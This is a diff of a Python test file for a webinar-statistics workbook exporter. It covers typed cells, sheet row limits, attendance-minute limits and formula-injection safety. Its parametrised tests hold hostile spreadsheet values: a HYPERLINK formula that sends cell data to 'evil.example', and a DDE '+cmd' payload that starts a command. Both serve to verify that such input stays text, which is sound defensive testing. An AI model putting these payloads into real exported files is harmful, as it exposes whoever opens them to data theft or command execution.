@@ -1,4 +1,4 @@
-"""The workbook writer on faked mart rows: typed cells, formula safety, the row limit."""
+"""The workbook of hand-made rows: typed cells, formula safety, the row limit, titles."""
 
 from __future__ import annotations
 
@@ -10,7 +10,8 @@ from decimal import Decimal
 import openpyxl
 import pytest
 
-from webstat.reports.xlsx import column_letter, render_session_xlsx, text_cell
+from webstat.errors import WebstatError
+from webstat.reports.workbook import MAX_ATTENDANCE_MINUTES, render_session_xlsx
 
 
 def header_index(ws) -> dict[str, int]:
@@ -21,41 +22,9 @@ def cell(ws, row: int, header: str):
     return ws[row][header_index(ws)[header]]
 
 
-def test_column_letters():
-    assert [column_letter(i) for i in (1, 26, 27, 52, 53, 702, 703)] == [
-        "A",
-        "Z",
-        "AA",
-        "AZ",
-        "BA",
-        "ZZ",
-        "AAA",
-    ]
-
-
-@pytest.mark.parametrize(
-    "text", ['=HYPERLINK("http://evil","x")', "@SUM(1+1)", "+1", "-1", "\t=1", "\r=1"]
-)
-def test_formula_leads_get_a_quote_prefix(text):
-    xml = text_cell("A1", text, 0, 7)
-    assert ' s="7" t="inlineStr"' in xml and "<f>" not in xml
-
-
-def test_text_cell_escapes_xml_and_excel_escapes():
-    assert text_cell("A1", "a<b>&c", 0, 1) == (
-        '<c r="A1" t="inlineStr"><is><t>a&lt;b&gt;&amp;c</t></is></c>'
-    )
-    assert "_x005F_x0041_" in text_cell("A1", "_x0041_", 0, 1)
-    assert "&#13;" in text_cell("A1", "a\rb", 0, 1)
-    assert "\ufffd" in text_cell("A1", "a\x01b", 0, 1)
-    assert 'xml:space="preserve"' in text_cell("A1", " padded ", 0, 1)
-    assert text_cell("A1", "", 0, 1) == ""
-    long = text_cell("A1", "я" * 40_000, 0, 1)
-    assert long.count("я") == 32_766 and "…" in long
-
-
-def test_typed_cells(tmp_path, fake_marts, rows):
-    fake_marts(
+def test_typed_cells(tmp_path, rows):
+    report = rows["report"](
+        rows["session"](),
         [
             rows["participant"](
                 1,
@@ -71,9 +40,9 @@ def test_typed_cells(tmp_path, fake_marts, rows):
                 visitor_type="guest",
                 first_joined_at=datetime(1, 1, 1, tzinfo=UTC),
             ),
-        ]
+        ],
     )
-    counts = render_session_xlsx(None, rows["session"](), tmp_path / "r.xlsx")
+    counts = render_session_xlsx(report, tmp_path / "r.xlsx")
     assert counts == {
         "participants": 2,
         "connections": 0,
@@ -99,7 +68,7 @@ def test_typed_cells(tmp_path, fake_marts, rows):
     assert cell(ws, 4, "Время входа").value == "0001-01-01 02:30:17"
 
 
-def test_formula_like_values_stay_text(tmp_path, fake_marts, rows):
+def test_formula_like_values_stay_text(tmp_path, rows):
     hostile = [
         '=HYPERLINK("http://evil.example","click")',
         "@SUM(A1:A2)",
@@ -108,8 +77,8 @@ def test_formula_like_values_stay_text(tmp_path, fake_marts, rows):
         "\t=tab",
         "=1+1",
     ]
-    fake_marts([rows["participant"](i, chat_name=t, city=t) for i, t in enumerate(hostile)])
-    render_session_xlsx(None, rows["session"](), tmp_path / "r.xlsx")
+    participants = [rows["participant"](i, chat_name=t, city=t) for i, t in enumerate(hostile)]
+    render_session_xlsx(rows["report"](rows["session"](), participants), tmp_path / "r.xlsx")
     ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["Участники"]
     for i, text in enumerate(hostile):
         for header in ("Имя в чате", "Город"):
@@ -119,10 +88,10 @@ def test_formula_like_values_stay_text(tmp_path, fake_marts, rows):
         assert not re.search(rb"<f[ >]", z.read("xl/worksheets/sheet1.xml"))
 
 
-def test_rows_continue_on_a_new_sheet_past_the_limit(tmp_path, fake_marts, rows):
-    fake_marts([rows["participant"](i) for i in range(7)])
+def test_rows_continue_on_a_new_sheet_past_the_limit(tmp_path, rows):
+    report = rows["report"](rows["session"](), [rows["participant"](i) for i in range(7)])
     counts = render_session_xlsx(
-        None, rows["session"](), tmp_path / "r.xlsx", locale="en", max_sheet_rows=5
+        report, tmp_path / "r.xlsx", locale="en", max_sheet_rows=5
     )  # title + header + 3 rows
     wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
     assert wb.sheetnames[:4] == [
@@ -138,16 +107,25 @@ def test_rows_continue_on_a_new_sheet_past_the_limit(tmp_path, fake_marts, rows)
     assert counts["participants"] == 7
 
 
-def test_limit_must_leave_room_for_a_row(tmp_path, fake_marts, rows):
-    fake_marts([])
+def test_limit_must_leave_room_for_a_row(tmp_path, rows):
+    report = rows["report"](rows["session"](), [])
     with pytest.raises(ValueError, match="max_sheet_rows"):
-        render_session_xlsx(None, rows["session"](), tmp_path / "r.xlsx", max_sheet_rows=2)
+        render_session_xlsx(report, tmp_path / "r.xlsx", max_sheet_rows=2)
 
 
-def test_empty_session_still_makes_a_workbook(tmp_path, fake_marts, rows):
-    fake = fake_marts([])
-    fake.attendance, fake.sources, fake.devices = [], [], []
-    counts = render_session_xlsx(None, rows["session"](), tmp_path / "r.xlsx")
+def test_too_many_minutes_fail_before_anything_is_written(tmp_path, rows):
+    minute = {"minute_at": datetime(2026, 11, 2, 10, tzinfo=UTC), "participants_online": 1}
+    report = rows["report"](
+        rows["session"](), [], attendance=[minute] * (MAX_ATTENDANCE_MINUTES + 1)
+    )
+    with pytest.raises(WebstatError, match="more than 999,998 attendance minutes"):
+        render_session_xlsx(report, tmp_path / "r.xlsx")
+    assert not (tmp_path / "r.xlsx").exists()
+
+
+def test_empty_session_still_makes_a_workbook(tmp_path, rows):
+    report = rows["report"](rows["session"](), [], attendance=[], sources=[], devices=[])
+    counts = render_session_xlsx(report, tmp_path / "r.xlsx")
     assert counts["participants"] == 0
     wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
     assert wb["Участники"].max_row == 2 and wb["Участники"]["A2"].value == "Имя"
@@ -157,9 +135,9 @@ def test_empty_session_still_makes_a_workbook(tmp_path, fake_marts, rows):
     "title",
     ['=HYPERLINK("http://evil.example/?"&A3,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"],
 )
-def test_a_formula_like_title_stays_text_on_every_sheet(tmp_path, fake_marts, rows, title):
-    fake_marts([rows["participant"](1)])
-    render_session_xlsx(None, rows["session"](webinar_name=title), tmp_path / "r.xlsx")
+def test_a_formula_like_title_stays_text_on_every_sheet(tmp_path, rows, title):
+    report = rows["report"](rows["session"](webinar_name=title), [rows["participant"](1)])
+    render_session_xlsx(report, tmp_path / "r.xlsx")
     wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
     # participants, connections, event, sources, devices: each titled by the webinar
     assert len(wb.worksheets) == 5
@@ -179,7 +157,7 @@ def test_chart_row_limit_is_openpyxl_s():
     from openpyxl import Workbook
     from openpyxl.chart import Reference
 
-    from webstat.reports.xlsx import CHART_MAX_ROW, MAX_ATTENDANCE_MINUTES, ROW_HEADER
+    from webstat.reports.workbook import CHART_MAX_ROW, ROW_HEADER
 
     ws = Workbook().active
     assert (CHART_MAX_ROW, MAX_ATTENDANCE_MINUTES) == (1_000_000, 999_998)
